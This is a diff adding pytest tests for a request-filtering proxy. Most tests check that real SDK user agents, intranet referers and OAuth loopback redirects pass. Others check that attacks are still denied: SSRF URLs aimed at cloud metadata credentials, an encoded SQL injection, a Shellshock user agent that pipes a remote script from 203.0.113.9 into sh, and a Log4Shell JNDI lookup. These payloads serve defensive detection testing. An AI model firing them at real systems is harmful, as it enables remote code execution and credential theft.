@@ -1,0 +1,106 @@
+"""Decisions that depend on where a value sits (issue: detection on real traffic).
+
+Real clients send user agents with parentheses, semicolons and URLs; intranet web apps send a
+Referer naming a private host; front ends in development send `Origin: http://localhost:3000`;
+native apps ask for OAuth loopback redirects (RFC 8252). None of that is an attack, and all of it
+was denied before. The same values where a server fetches URLs, or real payloads in those
+headers, still are.
+"""
+
+from __future__ import annotations
+
+import urllib.parse
+
+import pytest
+
+from scenarios import assert_annotated, assert_problem_json_403
+
+# Shapes of real SDK, CLI, mobile and bot user agents (not taken from any evaluation set).
+SDK_USER_AGENTS = [
+    "ExampleGo/3.2.1 (+github.com/example/go-example; go1.22.5)",
+    "Integration/1.0 (pytest; nightly) acme-sdk/2.4.0 (acme-sdk/2.4.0; Python/3.11.7; Linux/x86_64)",
+    "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/s3#1.58.2",
+    "Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.7 "
+    "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.0",
+    "terraform-provider-acme/5.60.0 (+https://registry.terraform.io) Terraform/1.9.2",
+    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)",
+    "ShopApp/4.2.1 (com.example.shop; build:4210; iOS 17.5.1) Alamofire/5.9.1",
+    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://example.com/bot.html)",
+    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
+    "PowerShell/7.4.2 (Microsoft Windows 10.0.22631; en-US) WindowsPowerShell/7.4.2",
+]
+
+
+@pytest.mark.parametrize("ua", SDK_USER_AGENTS)
+def test_real_sdk_user_agent_is_not_denied_in_enforce_mode(enforce_envoy, ua):
+    resp = enforce_envoy.request("GET", "/api/users/2", headers={"user-agent": ua})
+    assert resp.status == 200, (resp.status, resp.body[:300])
+    ann = assert_annotated(resp, mode="enforce")
+    assert ann["action"] != "deny", ann
+
+
+INTRANET_HEADERS = [
+    {"referer": "http://10.0.0.5/app/orders?id=3"},
+    {"referer": "http://intranet.corp.local/reports/weekly"},
+    {"origin": "http://localhost:3000"},
+    {"origin": "http://127.0.0.1:5173"},
+    {"origin": "http://[::1]:8080", "referer": "http://[::1]:8080/cart"},
+    {"cookie": "session=8f14e45fceea167a; returnTo=http%3A%2F%2Flocalhost%3A3000%2Fcart"},
+]
+
+
+@pytest.mark.parametrize("headers", INTRANET_HEADERS, ids=lambda h: ",".join(h))
+def test_intranet_or_loopback_referer_origin_and_return_cookie_pass_in_enforce_mode(
+    enforce_envoy, headers
+):
+    resp = enforce_envoy.request("GET", "/api/users/2", headers=headers)
+    assert resp.status == 200, (resp.status, resp.body[:300])
+    ann = assert_annotated(resp, mode="enforce")
+    assert ann["action"] != "deny", ann
+
+
+@pytest.mark.parametrize(
+    "param,url",
+    [
+        ("redirect_uri", "http://localhost:8080/callback"),
+        ("redirect_uri", "http://127.0.0.1:49152/oauth2redirect"),
+        ("returnTo", "http://10.1.2.3/dashboard"),
+        ("next", "/account/settings"),
+    ],
+)
+def test_loopback_or_intranet_redirect_target_passes_in_enforce_mode(enforce_envoy, param, url):
+    q = urllib.parse.urlencode({"client_id": "cli-7", param: url, "state": "af0ifjsldkj"})
+    resp = enforce_envoy.request("GET", f"/api/search?{q}")
+    assert resp.status == 200, (resp.status, resp.body[:300])
+    ann = assert_annotated(resp, mode="enforce")
+    assert ann["action"] != "deny", ann
+
+
+@pytest.mark.parametrize(
+    "param,url",
+    [
+        ("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+        ("webhook_url", "http://127.0.0.1:6379/"),
+        ("callback", "http://10.0.0.1:10250/pods"),
+    ],
+)
+def test_internal_url_where_the_server_fetches_is_still_denied(enforce_envoy, param, url):
+    q = urllib.parse.urlencode({param: url})
+    resp = enforce_envoy.request("GET", f"/api/search?{q}")
+    assert_problem_json_403(resp)
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        # Envoy drops a Referer that is not a valid URL before any filter runs: encoded, as a
+        # browser would send it.
+        {"referer": "http://example.com/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"},
+        {"user-agent": "() { :; }; /bin/bash -c 'curl http://203.0.113.9/x | sh'"},
+        {"user-agent": "${jndi:ldap://203.0.113.9:1389/a}"},
+    ],
+    ids=["sqli-in-referer", "shellshock-in-user-agent", "jndi-in-user-agent"],
+)
+def test_attack_in_a_header_is_still_denied(enforce_envoy, headers):
+    resp = enforce_envoy.request("GET", "/api/users/2", headers=headers)
+    assert_problem_json_403(resp)
